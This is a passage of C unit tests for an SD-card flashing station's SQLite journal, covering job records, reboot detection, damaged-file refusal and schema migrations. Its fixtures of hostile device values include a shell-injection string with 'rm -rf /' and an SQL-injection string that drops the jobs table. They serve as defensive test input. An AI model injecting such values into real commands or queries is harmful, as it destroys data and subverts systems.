/* Unit tests for the journal: job rows, schema versions, concurrency and reports. */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <math.h>
#include <pthread.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "testutil.h"
#include "journal.h"
#include "report.h"

/* Values a hostile or broken device might report. */
static const char h_quote[] = "a\"b\"\"c\"";
static const char h_comma[] = "x,y,,z,";
static const char h_lines[] = "line1\nline2\r\nline3\r";
static const char h_shell[] = "; rm -rf / $(reboot) `id` | && >x";
static const char h_ctrl[] = "\x1b[31mRED\x1b[0m\t\x07" "bell\x7f";
static const char h_utf8[] = "Gr\xc3\xbc\xc3\x9f" "e \xe2\x80\x93 \xe2\x9c\x93 \xe6\x97\xa5";
static const char h_sql[] = "'); DROP TABLE jobs; --";
/* Invalid UTF-8, and what JSON reports carry instead (U+FFFD per maximal subpart). */
static const char h_bad[] = "bad\xff\xfe mid\x80 end\xe2\x82 x\xc3";
static const char h_bad_json[] = "bad\xef\xbf\xbd\xef\xbf\xbd mid\xef\xbf\xbd end\xef\xbf\xbd"
				 " x\xef\xbf\xbd";

struct fixture {
	char *dir, *path;
	char h_long[4097];
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	assert_non_null(f);
	f->dir = tu_mkdtemp();
	f->path = tu_path(f->dir, "journal.db");
	/* 4 KiB of printable text with a quote, a comma and a newline in it. */
	for (size_t i = 0; i < 4096; i++)
		f->h_long[i] = (char)('!' + i % 90);
	f->h_long[100] = '"';
	f->h_long[200] = ',';
	f->h_long[300] = '\n';
	f->h_long[4096] = '\0';
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	tu_rmtree(f->dir);
	free(f->path);
	free(f->dir);
	free(f);
	return 0;
}

static struct journal *open_rw(const char *path)
{
	struct journal *j = NULL;
	char *err = NULL;
	int r = journal_open(path, false, &j, &err);

	if (r < 0)
		fail_msg("journal_open(%s): %d %s", path, r, err);
	assert_null(err);
	return j;
}

static struct job_start plain_start(void)
{
	return (struct job_start){
		.station = "line-1",
		.slot = "slot-a",
		.devnode = "/dev/sdb",
		.syspath = "/sys/devices/pci0000:00/usb1/1-1/block/sdb",
		.diskseq = 42,
		.serial = "0x1234abcd",
		.reader_serial = "READER-9",
		.vendor = "Generic",
		.model = "SD Card Reader",
		.bus = "usb",
		.id_path = "pci-0000:00:14.0-usb-0:1:1.0-scsi-0:0:0:0",
		.size = 31914983424ull,
		.removable = true,
		.mmc_cid = "035344534333324780a1b2c3d4015e01",
		.mmc_manfid = "0x000003",
		.mmc_oemid = "0x5344",
		.mmc_name = "SC32G",
		.mmc_date = "05/2021",
		.content_before = "dos 1234-abcd",
		.profile = "pi-os",
		.image = "/srv/images/pi.img.zst",
		.image_size = 2147483648ull,
		.bmap = "/srv/images/pi.img.bmap",
		.bmap_sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	};
}

/* --- reading the file back with plain sqlite ----------------------------- */

static sqlite3 *db_open(const char *path)
{
	sqlite3 *db = NULL;

	assert_int_equal(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	sqlite3_busy_timeout(db, 5000);
	return db;
}

/* The single value of "SELECT @expr FROM jobs WHERE job = @job" (job < 0: no WHERE). */
static sqlite3_stmt *db_value(sqlite3 *db, const char *expr, int64_t job)
{
	sqlite3_stmt *st = NULL;
	char sql[512];

	if (job >= 0)
		snprintf(sql, sizeof(sql), "SELECT %s FROM jobs WHERE job = %" PRId64, expr, job);
	else
		snprintf(sql, sizeof(sql), "SELECT %s", expr);
	if (sqlite3_prepare_v2(db, sql, -1, &st, NULL) != SQLITE_OK)
		fail_msg("%s: %s", sql, sqlite3_errmsg(db));
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	return st;
}

/* Text column: must be stored as TEXT with exactly @want's bytes (NULL: SQL NULL). */
static void check_text(sqlite3 *db, int64_t job, const char *col, const char *want)
{
	sqlite3_stmt *st = db_value(db, col, job);

	if (!want) {
		assert_int_equal(sqlite3_column_type(st, 0), SQLITE_NULL);
	} else {
		assert_int_equal(sqlite3_column_type(st, 0), SQLITE_TEXT);
		assert_int_equal(sqlite3_column_bytes(st, 0), (int)strlen(want));
		assert_memory_equal(sqlite3_column_text(st, 0), want, strlen(want));
	}
	sqlite3_finalize(st);
}

static int64_t get_int(sqlite3 *db, int64_t job, const char *expr)
{
	sqlite3_stmt *st = db_value(db, expr, job);
	int64_t v;

	assert_int_equal(sqlite3_column_type(st, 0), SQLITE_INTEGER);
	v = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return v;
}

static double get_real(sqlite3 *db, int64_t job, const char *expr)
{
	sqlite3_stmt *st = db_value(db, expr, job);
	double v;

	assert_int_equal(sqlite3_column_type(st, 0), SQLITE_FLOAT);
	v = sqlite3_column_double(st, 0);
	sqlite3_finalize(st);
	return v;
}

static bool is_null(sqlite3 *db, int64_t job, const char *expr)
{
	sqlite3_stmt *st = db_value(db, expr, job);
	bool null = sqlite3_column_type(st, 0) == SQLITE_NULL;

	sqlite3_finalize(st);
	return null;
}

static char *get_str(sqlite3 *db, int64_t job, const char *expr)
{
	sqlite3_stmt *st = db_value(db, expr, job);
	char *s;

	assert_int_equal(sqlite3_column_type(st, 0), SQLITE_TEXT);
	s = strdup((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	assert_non_null(s);
	return s;
}

/* 2026-11-26T05:41:12.345Z */
static void check_iso_ms(const char *s)
{
	static const char shape[] = "dddd-dd-ddTdd:dd:dd.dddZ";

	assert_int_equal(strlen(s), strlen(shape));
	for (size_t i = 0; shape[i]; i++)
		if (shape[i] == 'd')
			assert_true(s[i] >= '0' && s[i] <= '9');
		else
			assert_int_equal(s[i], shape[i]);
}

static void sleep_ms(long ms)
{
	struct timespec ts = { .tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000 };

	nanosleep(&ts, NULL);
}

static void check_start_fields(sqlite3 *db, int64_t job, const struct job_start *s)
{
	check_text(db, job, "station", s->station);
	check_text(db, job, "slot", s->slot);
	check_text(db, job, "devnode", s->devnode);
	check_text(db, job, "syspath", s->syspath);
	check_text(db, job, "serial", s->serial);
	check_text(db, job, "reader_serial", s->reader_serial);
	check_text(db, job, "vendor", s->vendor);
	check_text(db, job, "model", s->model);
	check_text(db, job, "bus", s->bus);
	check_text(db, job, "id_path", s->id_path);
	check_text(db, job, "mmc_cid", s->mmc_cid);
	check_text(db, job, "mmc_manfid", s->mmc_manfid);
	check_text(db, job, "mmc_oemid", s->mmc_oemid);
	check_text(db, job, "mmc_name", s->mmc_name);
	check_text(db, job, "mmc_date", s->mmc_date);
	check_text(db, job, "content_before", s->content_before);
	check_text(db, job, "profile", s->profile);
	check_text(db, job, "image", s->image);
	check_text(db, job, "bmap", s->bmap);
	check_text(db, job, "bmap_sha256", s->bmap_sha256);
	if (s->diskseq)
		assert_int_equal(get_int(db, job, "diskseq"), s->diskseq);
	else
		assert_true(is_null(db, job, "diskseq"));
	if (s->size)
		assert_int_equal(get_int(db, job, "size"), s->size);
	else
		assert_true(is_null(db, job, "size"));
	if (s->image_size)
		assert_int_equal(get_int(db, job, "image_size"), s->image_size);
	else
		assert_true(is_null(db, job, "image_size"));
	assert_int_equal(get_int(db, job, "removable"), s->removable ? 1 : 0);
}

/* --- job rows -------------------------------------------------------------- */

static void test_start_end_roundtrip(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct job_end e = {
		.outcome = OUTCOME_SUCCESS,
		.bytes_written = 1500000000ull,
		.data_sha256 = "aa11",
		.readback_sha256 = "aa11",
		.content_after = "dos 5678-ef01",
	};
	struct journal *j = open_rw(f->path);
	int64_t job = -1;
	sqlite3 *db;
	char *started, *finished;
	double dur;

	assert_int_equal(journal_job_start(j, &s, &job), 0);
	assert_true(job > 0);

	/* Visible to another connection (the row is committed) before the end. */
	db = db_open(f->path);
	check_start_fields(db, job, &s);
	check_text(db, job, "outcome", "running");
	assert_true(is_null(db, job, "finished"));
	assert_true(is_null(db, job, "duration"));
	assert_true(is_null(db, job, "bytes_written"));
	started = get_str(db, job, "started");
	check_iso_ms(started);

	sleep_ms(60);
	assert_int_equal(journal_job_end(j, job, &e), 0);
	check_start_fields(db, job, &s);
	check_text(db, job, "outcome", "success");
	check_text(db, job, "error", NULL);
	check_text(db, job, "data_sha256", "aa11");
	check_text(db, job, "readback_sha256", "aa11");
	check_text(db, job, "content_after", "dos 5678-ef01");
	assert_int_equal(get_int(db, job, "bytes_written"), 1500000000);
	finished = get_str(db, job, "finished");
	check_iso_ms(finished);
	assert_true(strcmp(started, finished) < 0);
	dur = get_real(db, job, "duration");
	assert_true(dur >= 0.05 && dur < 10.0);
	assert_true(get_real(db, job, "throughput") > 0);
	assert_true(fabs(get_real(db, job, "throughput") - 1500000000.0 / dur) < 1e-3);
	/* Same as the wall clock, within the time between reading the two
	 * clocks (generous: valgrind runs this test too). */
	assert_true(fabs(get_real(db, job, "(julianday(finished) - julianday(started)) * 86400") -
			 dur) < 0.5);

	free(started);
	free(finished);
	sqlite3_close(db);
	journal_close(j);
}

static void test_unknowns_are_null(void **state)
{
	struct fixture *f = *state;
	struct job_start s = { .serial = "only-this" };
	struct journal *j = open_rw(f->path);
	int64_t job;
	sqlite3 *db;

	assert_int_equal(journal_job_start(j, &s, &job), 0);
	db = db_open(f->path);
	check_start_fields(db, job, &s);
	sqlite3_close(db);
	journal_close(j);
}

static void test_end_unknown_or_finished_fails(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS, .bytes_written = 10 };
	struct job_end bad = { .outcome = OUTCOME_FAILED, .error = "second end" };
	struct journal *j = open_rw(f->path);
	int64_t job;
	sqlite3 *db;

	assert_int_equal(journal_job_end(j, 999, &ok), -ENOENT);
	assert_non_null(strstr(journal_error(j), f->path));
	assert_non_null(strstr(journal_error(j), "999"));

	assert_int_equal(journal_job_start(j, &s, &job), 0);
	/* "running" is not an end. */
	assert_int_equal(journal_job_end(j, job, &(struct job_end){ .outcome = OUTCOME_RUNNING }),
			 -EINVAL);
	assert_int_equal(journal_job_end(j, job, &ok), 0);
	assert_int_equal(journal_job_end(j, job, &bad), -EALREADY);
	assert_non_null(strstr(journal_error(j), "already ended"));

	db = db_open(f->path);
	check_text(db, job, "outcome", "success");
	check_text(db, job, "error", NULL);
	assert_int_equal(get_int(db, job, "bytes_written"), 10);
	/* Nothing was left in a transaction: a write from elsewhere goes through. */
	assert_int_equal(sqlite3_exec(db, "BEGIN IMMEDIATE; COMMIT", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);
	journal_close(j);
}

static void test_once(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct job_end e = { .outcome = OUTCOME_REFUSED, .error = "mounted at /media/x" };
	struct journal *j = open_rw(f->path);
	int64_t job;
	sqlite3 *db;
	char *started, *finished;

	assert_int_equal(journal_job_once(j, &s, &(struct job_end){ .outcome = OUTCOME_RUNNING },
					  &job),
			 -EINVAL);
	assert_int_equal(journal_job_once(j, &s, &e, &job), 0);
	db = db_open(f->path);
	check_start_fields(db, job, &s);
	check_text(db, job, "outcome", "refused");
	check_text(db, job, "error", "mounted at /media/x");
	started = get_str(db, job, "started");
	finished = get_str(db, job, "finished");
	check_iso_ms(started);
	assert_string_equal(started, finished);
	assert_true(get_real(db, job, "duration") == 0.0);
	assert_true(is_null(db, job, "throughput"));
	assert_int_equal(get_int(db, job, "bytes_written"), 0);
	/* Not running, so it cannot be ended again. */
	assert_int_equal(journal_job_end(j, job, &(struct job_end){ .outcome = OUTCOME_SUCCESS }),
			 -EALREADY);

	e.outcome = OUTCOME_IGNORED;
	e.error = NULL;
	assert_int_equal(journal_job_once(j, &s, &e, &job), 0);
	check_text(db, job, "outcome", "ignored");

	free(started);
	free(finished);
	sqlite3_close(db);
	journal_close(j);
}

static void test_interrupt_running(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS, .bytes_written = 1 };
	struct journal *j = open_rw(f->path);
	int64_t a, b, c;
	sqlite3 *db;

	assert_int_equal(journal_interrupt_running(j, "nothing"), 0);
	assert_int_equal(journal_job_start(j, &s, &a), 0);
	assert_int_equal(journal_job_start(j, &s, &b), 0);
	assert_int_equal(journal_job_start(j, &s, &c), 0);
	assert_int_equal(journal_job_end(j, b, &ok), 0);
	journal_close(j);

	/* As after a crash: a new process finds a and c still running. */
	j = open_rw(f->path);
	assert_int_equal(journal_interrupt_running(j, "daemon restarted"), 2);
	assert_int_equal(journal_interrupt_running(j, "again"), 0);
	db = db_open(f->path);
	check_text(db, a, "outcome", "interrupted");
	check_text(db, c, "outcome", "interrupted");
	check_text(db, a, "error", "daemon restarted");
	check_text(db, b, "outcome", "success");
	check_text(db, b, "error", NULL);
	assert_false(is_null(db, a, "finished"));
	assert_true(is_null(db, a, "duration"));
	assert_int_equal(journal_job_end(j, a, &ok), -EALREADY);
	check_text(db, a, "outcome", "interrupted");
	sqlite3_close(db);
	journal_close(j);
}

/* Points the journal's boot id at @path holding @id (NULL: the real boot's). */
static void fake_boot(const char *path, const char *id)
{
	if (!id) {
		unsetenv("BMAP_STATION_BOOT_ID_FILE");
		return;
	}
	tu_write_file(path, id, strlen(id));
	setenv("BMAP_STATION_BOOT_ID_FILE", path, 1);
}

/*
 * DISKSEQ restarts at every boot and boots number disks alike: yesterday's
 * success on the same syspath and DISKSEQ made the first card after a
 * reboot look done, and it was skipped without a row.
 */
static void test_card_skipped_after_reboot(void **state)
{
	static const char boot_a[] = "0b3c6a3e-8d39-4f5e-a3a1-5f3e2b7c9d01\n";
	static const char boot_b[] = "7f1e2d3c-4b5a-4968-8776-655443322110\n";
	struct fixture *f = *state;
	char *boot = tu_path(f->dir, "boot_id");
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS, .bytes_written = 1 };
	struct journal *j;
	enum outcome o = OUTCOME_RUNNING;
	int64_t job;
	sqlite3 *db;

	fake_boot(boot, boot_a);
	j = open_rw(f->path);
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
	assert_int_equal(journal_job_start(j, &s, &job), 0);
	assert_int_equal(journal_job_end(j, job, &ok), 0);
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
	assert_int_equal(o, OUTCOME_SUCCESS);
	journal_close(j);

	/* The daemon restarted in the same boot: the card was dealt with. */
	j = open_rw(f->path);
	o = OUTCOME_RUNNING;
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
	assert_int_equal(o, OUTCOME_SUCCESS);
	journal_close(j);

	/* A reboot: the same syspath and DISKSEQ are another card. */
	fake_boot(boot, boot_b);
	j = open_rw(f->path);
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
	journal_close(j);

	/* Each row says which boot it ran in. */
	db = db_open(f->path);
	check_text(db, 1, "boot_id", "0b3c6a3e-8d39-4f5e-a3a1-5f3e2b7c9d01");
	check_text(db, job, "boot_id", "7f1e2d3c-4b5a-4968-8776-655443322110");
	sqlite3_close(db);

	/* Without a boot id to read, no earlier row is this card. */
	setenv("BMAP_STATION_BOOT_ID_FILE", "/nonexistent/boot_id", 1);
	j = open_rw(f->path);
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
	journal_close(j);
	fake_boot(NULL, NULL);
	free(boot);
}

/* --- a damaged, truncated or odd file -------------------------------------- */

/* A journal of a few jobs and a hook, its WAL written back into the file. */
static void write_small_journal(const char *path)
{
	struct journal *j = open_rw(path);
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS, .bytes_written = 1 };
	struct hook_record h = { .job = 1, .event = "on_success", .command = "true" };
	int64_t job;
	sqlite3 *db;

	for (int i = 0; i < 20; i++)
		assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
	assert_int_equal(journal_hook_record(j, &h), 0);
	journal_close(j);
	db = db_open(path);
	assert_int_equal(sqlite3_exec(db, "PRAGMA wal_checkpoint(TRUNCATE)", NULL, NULL, NULL),
			 SQLITE_OK);
	sqlite3_close(db);
}

/* Garbage over the first page of @table (its b-tree root) of the file at @path. */
static void overwrite_root_page(const char *path, const char *table)
{
	char sql[128], junk[512];
	int64_t page, size;
	sqlite3 *db = db_open(path);

	snprintf(sql, sizeof(sql), "rootpage FROM sqlite_schema WHERE name = '%s'", table);
	page = get_int(db, -1, sql);
	size = get_int(db, -1, "page_size FROM pragma_page_size");
	sqlite3_close(db);
	memset(junk, 0x5a, sizeof(junk));
	tu_pwrite(path, junk, sizeof(junk), (uint64_t)((page - 1) * size));
}

static char *file_digest(const char *path)
{
	size_t len;
	char *data = tu_read_file(path, &len), *hex = malloc(17);
	uint64_t h = 1469598103934665603ull; /* FNV-1a: enough to see a change */

	assert_non_null(hex);
	for (size_t i = 0; i < len; i++)
		h = (h ^ (unsigned char)data[i]) * 1099511628211ull;
	snprintf(hex, 17, "%016" PRIx64, h);
	free(data);
	return hex;
}

/*
 * With a page overwritten (one that report and status do not read), the
 * journal opened as if nothing were wrong: reports exited 0, and the daemon
 * started and retried its failing writes forever. Now every open checks it
 * (PRAGMA quick_check) and refuses it, naming the file and the way out.
 */
static void test_damaged_journal_refused(void **state)
{
	struct fixture *f = *state;
	struct journal *j = NULL;
	char *err = NULL, *before, *after;

	write_small_journal(f->path);
	overwrite_root_page(f->path, "hooks");
	before = file_digest(f->path);
	for (int writer = 0; writer < 2; writer++) {
		assert_int_equal(journal_open(f->path, !writer, &j, &err), -EBADMSG);
		assert_null(j);
		assert_non_null(strstr(err, f->path));
		assert_non_null(strstr(err, "damaged"));
		assert_non_null(strstr(err, "restore it from a backup or move it away"));
		free(err);
		err = NULL;
	}
	/* Refused before anything was written. */
	after = file_digest(f->path);
	assert_string_equal(before, after);
	free(before);
	free(after);
}

/*
 * A journal truncated to 0 bytes was silently made anew, and job numbers
 * started again at 1. Its -wal and -shm files (kept by the station) say a
 * journal was there: refused. An empty file alone (touch, or a sqlite3
 * shell that looked first) becomes a journal.
 */
static void test_truncated_journal_not_recreated(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct journal *j = NULL;
	char *err = NULL, *fresh = tu_path(f->dir, "fresh.db");
	struct stat st;
	int64_t job;

	j = open_rw(f->path);
	assert_int_equal(journal_job_start(j, &s, &job), 0);
	journal_close(j);
	j = NULL;
	tu_truncate(f->path, 0);
	assert_int_equal(journal_open(f->path, false, &j, &err), -EBADMSG);
	assert_null(j);
	assert_non_null(strstr(err, f->path));
	assert_non_null(strstr(err, "empty"));
	assert_non_null(strstr(err, "restore it from a backup"));
	free(err);
	err = NULL;
	assert_int_equal(stat(f->path, &st), 0);
	assert_int_equal(st.st_size, 0);
	assert_int_equal(journal_open(f->path, true, &j, &err), -EPROTO);
	free(err);

	tu_write_file(fresh, "", 0);
	j = open_rw(fresh);
	assert_int_equal(journal_job_start(j, &s, &job), 0);
	assert_int_equal(job, 1);
	journal_close(j);
	free(fresh);
}

/* `report --db FIFO` hung in open(): SQLite's open() of a FIFO waits for a
 * writer. (The test holds the FIFO open itself, so that the check does not
 * depend on a hang: what is refused is that it is no regular file.) */
static void test_fifo_journal_refused(void **state)
{
	struct fixture *f = *state;
	char *fifo = tu_path(f->dir, "fifo.db"), *dir = tu_path(f->dir, "folder.db");
	struct journal *j = NULL;
	char *err = NULL;
	int fd;

	assert_int_equal(mkfifo(fifo, 0600), 0);
	fd = open(fifo, O_RDWR | O_NONBLOCK | O_CLOEXEC);
	assert_true(fd >= 0);
	for (int writer = 0; writer < 2; writer++) {
		assert_int_equal(journal_open(fifo, !writer, &j, &err), -EINVAL);
		assert_non_null(strstr(err, fifo));
		assert_non_null(strstr(err, "FIFO"));
		free(err);
		err = NULL;
	}
	close(fd);
	assert_int_equal(mkdir(dir, 0700), 0);
	assert_int_equal(journal_open(dir, true, &j, &err), -EINVAL);
	assert_non_null(strstr(err, "folder"));
	free(err);
	free(fifo);
	free(dir);
}

/*
 * Damage that appears while the station runs: the write fails with
 * -EBADMSG and journal_damaged() says so with the way out, so that the
 * station stops instead of retrying for ever. (Another connection's write
 * makes ours read the pages again, from the damaged file.)
 */
static void test_damage_found_while_open(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct journal *j;
	int64_t job;
	sqlite3 *db;

	write_small_journal(f->path);
	j = open_rw(f->path);
	assert_null(journal_damaged(j));
	db = db_open(f->path);
	assert_int_equal(sqlite3_exec(db, "PRAGMA wal_checkpoint(TRUNCATE)", NULL, NULL, NULL),
			 SQLITE_OK);
	overwrite_root_page(f->path, "jobs");
	assert_int_equal(sqlite3_exec(db, "INSERT INTO forgotten VALUES ('x', 'now')", NULL, NULL,
				      NULL),
			 SQLITE_OK);
	sqlite3_close(db);
	assert_int_equal(journal_job_start(j, &s, &job), -EBADMSG);
	assert_non_null(journal_damaged(j));
	assert_non_null(strstr(journal_damaged(j), f->path));
	assert_non_null(strstr(journal_damaged(j), "restore it from a backup or move it away"));
	journal_close(j);
}

/* --- the file: versions, reopening, read-only -------------------------------- */

static void test_version_and_reopen(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct journal *j = open_rw(f->path);
	int64_t a, b;
	sqlite3 *db;
	char *mode, *wal, *shm;

	assert_int_equal(journal_job_start(j, &s, &a), 0);
	journal_close(j);

	/*
	 * Kept for read-only readers in directories they cannot write (until
	 * another kind of writer, such as the sqlite3 shell, closes it last).
	 */
	wal = tu_path(f->dir, "journal.db-wal");
	shm = tu_path(f->dir, "journal.db-shm");
	assert_int_equal(access(wal, F_OK), 0);
	assert_int_equal(access(shm, F_OK), 0);
	free(wal);
	free(shm);

	db = db_open(f->path);
	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 6);
	assert_int_equal(get_int(db, -1, "application_id FROM pragma_application_id"),
			 0x626d7374);
	mode = get_str(db, -1, "journal_mode FROM pragma_journal_mode");
	assert_string_equal(mode, "wal");
	free(mode);
	sqlite3_close(db);

	j = open_rw(f->path);
	assert_int_equal(journal_job_start(j, &s, &b), 0);
	assert_true(b > a);
	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(get_int(db, -1, "count(*) FROM jobs"), 2);
	check_text(db, a, "outcome", "running");
	sqlite3_close(db);
}

/* once_per_serial: a success counts until the serial is forgotten; the
 * job rows themselves stay. */
static void test_serial_passed_and_forget(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS, .bytes_written = 1 };
	struct job_end bad = { .outcome = OUTCOME_FAILED, .error = "x" };
	int64_t job, found;
	sqlite3 *db;

	assert_int_equal(journal_serial_passed(j, s.serial, s.profile, &found), -ENOENT);
	assert_int_equal(journal_job_once(j, &s, &bad, &job), 0);
	assert_int_equal(journal_serial_passed(j, s.serial, s.profile, &found), -ENOENT);
	assert_int_equal(journal_job_start(j, &s, &job), 0);
	assert_int_equal(journal_job_end(j, job, &ok), 0);
	assert_int_equal(journal_serial_passed(j, s.serial, s.profile, &found), 0);
	assert_int_equal(found, job);
	/* Another profile, another serial: not this one. */
	assert_int_equal(journal_serial_passed(j, s.serial, "other", &found), -ENOENT);
	assert_int_equal(journal_serial_passed(j, "other", s.profile, &found), -ENOENT);

	usleep(2000); /* timestamps have millisecond resolution */
	assert_int_equal(journal_forget(j, s.serial), 0);
	assert_int_equal(journal_serial_passed(j, s.serial, s.profile, &found), -ENOENT);
	usleep(2000);
	assert_int_equal(journal_job_start(j, &s, &job), 0);
	assert_int_equal(journal_job_end(j, job, &ok), 0);
	assert_int_equal(journal_serial_passed(j, s.serial, s.profile, &found), 0);
	assert_int_equal(found, job);
	journal_close(j);

	db = db_open(f->path);
	assert_int_equal(get_int(db, -1, "count(*) FROM jobs WHERE outcome = 'success'"), 2);
	sqlite3_close(db);
}

/* A version 4 journal (before boot ids) gains the column; its rows have
 * none and match no card of this boot, so such a card is flashed again
 * rather than skipped. */
static void test_migrate_from_v4(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS };
	enum outcome o;
	int64_t job;
	sqlite3 *db;

	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(sqlite3_exec(db,
				      "DROP INDEX jobs_insertion; ALTER TABLE jobs DROP COLUMN boot_id;"
				      " ALTER TABLE jobs DROP COLUMN signer;"
				      " PRAGMA user_version = 4",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	sqlite3_close(db);

	j = open_rw(f->path);
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 6);
	assert_int_equal(get_int(db, -1, "count(*) FROM jobs WHERE boot_id IS NULL"), 1);
	assert_int_equal(get_int(db, -1, "count(*) FROM jobs WHERE boot_id IS NOT NULL"), 1);
	sqlite3_close(db);
}

/* A version 5 journal (before signers) gains the signer column: its rows
 * have none (NULL), new rows record the fingerprint they are given. */
static void test_migrate_from_v5_signer(void **state)
{
	static const char fpr[] = "0123456789ABCDEF0123456789ABCDEF01234567";
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS };
	int64_t old, job;
	sqlite3 *db;

	assert_int_equal(journal_job_once(j, &s, &ok, &old), 0);
	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(sqlite3_exec(db, "ALTER TABLE jobs DROP COLUMN signer; PRAGMA user_version = 5",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	sqlite3_close(db);

	j = open_rw(f->path);
	s.signer = fpr;
	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 6);
	assert_int_equal(get_int(db, -1, "count(*) FROM jobs WHERE signer IS NULL"), 1);
	check_text(db, job, "signer", fpr);
	sqlite3_close(db);
}

/* A version 1 journal gains the forgotten table and keeps its rows. */
static void test_migrate_from_v1(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct job_start s = plain_start();
	struct job_end ok = { .outcome = OUTCOME_SUCCESS };
	int64_t job, found;
	sqlite3 *db;

	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(sqlite3_exec(db,
				      "DROP INDEX jobs_insertion; ALTER TABLE jobs DROP COLUMN boot_id;"
				      " ALTER TABLE jobs DROP COLUMN signer;"
				      " DROP TABLE live; DROP TABLE hooks; DROP TABLE forgotten;"
				      " PRAGMA user_version = 1",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	sqlite3_close(db);

	j = open_rw(f->path);
	assert_int_equal(journal_serial_passed(j, s.serial, s.profile, &found), 0);
	assert_int_equal(journal_forget(j, s.serial), 0);
	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 6);
	assert_int_equal(get_int(db, -1, "count(*) FROM forgotten"), 1);
	assert_int_equal(get_int(db, -1, "count(*) FROM jobs"), 1);
	sqlite3_close(db);
}

static void test_newer_version_refused(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	char *err = NULL;
	sqlite3 *db;

	journal_close(j);
	db = db_open(f->path);
	assert_int_equal(sqlite3_exec(db, "PRAGMA user_version = 99", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);

	j = NULL;
	assert_int_equal(journal_open(f->path, false, &j, &err), -EPROTONOSUPPORT);
	assert_null(j);
	assert_non_null(err);
	assert_non_null(strstr(err, f->path));
	assert_non_null(strstr(err, "newer"));
	free(err);
	err = NULL;
	assert_int_equal(journal_open(f->path, true, &j, &err), -EPROTONOSUPPORT);
	assert_non_null(strstr(err, "newer"));
	free(err);

	/* Left as it was. */
	db = db_open(f->path);
	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 99);
	sqlite3_close(db);
}

static void test_foreign_database_refused(void **state)
{
	struct fixture *f = *state;
	struct journal *j = NULL;
	char *err = NULL, *mode;
	sqlite3 *db = NULL;

	assert_int_equal(sqlite3_open(f->path, &db), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db, "CREATE TABLE precious(x)", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);

	assert_int_equal(journal_open(f->path, false, &j, &err), -EINVAL);
	assert_non_null(strstr(err, "not a bmap-station journal"));
	assert_non_null(strstr(err, f->path));
	free(err);

	db = db_open(f->path);
	mode = get_str(db, -1, "journal_mode FROM pragma_journal_mode");
	assert_string_equal(mode, "delete");
	assert_int_equal(get_int(db, -1, "count(*) FROM sqlite_schema"), 1);
	free(mode);
	sqlite3_close(db);
}

static void test_open_errors_name_the_file(void **state)
{
	struct fixture *f = *state;
